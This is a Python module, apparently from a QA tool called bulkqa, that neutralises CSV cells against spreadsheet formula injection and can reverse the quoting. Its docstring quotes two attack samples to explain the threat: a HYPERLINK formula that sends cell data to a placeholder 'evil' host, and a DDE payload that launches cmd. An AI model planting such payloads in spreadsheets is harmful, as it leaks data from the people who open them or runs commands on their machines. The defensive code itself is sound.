"""CSV cells that a spreadsheet will not run: the one formula-injection guard for every CSV we write.

Why: labels and image paths come from the model's CSV, i.e. from whoever produced the data. A cell
such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` in ``bulkqa export``
or ``bulkqa report --format csv`` runs as a formula when a reviewer opens the file in Excel,
LibreOffice or Google Sheets. OWASP's recommendation (CSV Injection): a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which the
spreadsheet shows as text; the csv module quotes the cell as usual.

We go slightly further than the OWASP list, because spreadsheets do:
- leading whitespace is skipped by some importers before they look for ``=``: ``" =1+1"`` counts;
- a line feed at the start is treated like the carriage return;
- the full-width forms ``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20) are read as formulas by some
  spreadsheets in East Asian locales.

The quote is added reversibly, so a CSV we wrote can be read back exactly (``restore_cell``): a
cell that *already* starts with ``'`` followed by something that would be neutralised gets one more
quote. A label such as ``'s Hertogenbosch`` is left as it is; ``-`` alone becomes ``'-``. Only
``str`` cells are touched: numbers we write as numbers (``-3`` as an int) stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"


def _starts_formula(text: str) -> bool:
    """Would a spreadsheet read ``text`` as a formula (or a DDE call)?"""
    if not text:
        return False
    if text[0] in FORMULA_TRIGGERS:
        return True
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def _ambiguous(text: str) -> bool:
    """True if ``text`` needs a quote, or starts with quotes that ``restore_cell`` would strip."""
    quotes = len(text) - len(text.lstrip(QUOTE))
    return _starts_formula(text[quotes:])


def neutralise_cell(value: Any) -> Any:
    """``value`` safe to put in a CSV cell: text that a spreadsheet would evaluate gets a leading ``'``."""
    if isinstance(value, str) and _ambiguous(value):
        return QUOTE + value
    return value


def restore_cell(text: str) -> str:
    """The inverse of ``neutralise_cell`` for text read back from a CSV we wrote."""
    if text.startswith(QUOTE) and _ambiguous(text[1:]):
        return text[1:]
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise_cell(cell) for cell in row]


class SafeWriter:
    """``csv.writer`` with every text cell neutralised: use it for every CSV the project writes."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        kwargs.setdefault("lineterminator", "\n")
        self._writer = csv.writer(stream, **kwargs)
        # csv quotes a cell with a line feed (it is in the line terminator) but not one with a bare
        # carriage return, which every reader takes for the end of the row: such rows are quoted whole.
        self._quote_all = csv.writer(stream, **{**kwargs, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = safe_row(row)
        if any(isinstance(cell, str) and "\r" in cell for cell in cells):
            return self._quote_all.writerow(cells)
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream: Any, **kwargs: Any) -> SafeWriter:
    """A formula-safe ``csv.writer`` (``lineterminator`` defaults to ``\\n``)."""
    return SafeWriter(stream, **kwargs)
